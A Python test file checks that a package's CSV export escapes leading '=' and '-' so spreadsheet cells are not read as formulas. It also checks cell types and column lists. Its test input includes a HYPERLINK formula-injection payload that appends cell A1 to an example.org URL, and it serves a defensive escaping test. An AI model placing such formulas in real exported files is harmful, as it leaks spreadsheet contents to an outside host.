"""The tables of a package, as a spreadsheet opens them."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

from evidence.answer.bag import COUNTED, write_tables
from evidence.answer.population import CountedMachine
from evidence.case.case import Case
from tests.evidence.answer.conftest import Builder
from tests.evidence.answer.made import ONE, drawn

FORMULA = '=HYPERLINK("http://example.org/?" & A1, "Plant 1")'


def test_no_cell_is_a_formula(
    case: Case, build: Callable[[Callable[[Builder], object]], object], tmp_path: Path
) -> None:
    build(lambda b: (b.add(FORMULA, claim="mazak"), b.add("-2", claim="haas", height=9.0)))
    with case.snapshot() as session:
        write_tables(session, [], tmp_path)
    with (tmp_path / "locations.csv").open(newline="") as file:
        claimed = {row["plant_claimed"] for row in csv.DictReader(file)}
    assert claimed == {f"'{FORMULA}", "'-2"}


def test_a_cell_is_a_number_a_truth_or_a_text(
    case: Case, build: Callable[[Callable[[Builder], object]], object], tmp_path: Path
) -> None:
    build(lambda b: b.add("Plant 1", claim="mazak", outcome="accept"))
    with case.snapshot() as session:
        write_tables(session, [drawn(ONE, 0.02)], tmp_path)
    with (tmp_path / "counted.csv").open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["chance"], row["stated"], row["hit"], row["recordings"]) == (
        "0.02", "true", "", '["a"]'
    )  # fmt: skip


def test_every_column_of_what_was_counted_is_told() -> None:
    fields = [name for name in CountedMachine.__slots__ if name != "views"]
    assert [*COUNTED] == [*fields, "hit", "stratum"]
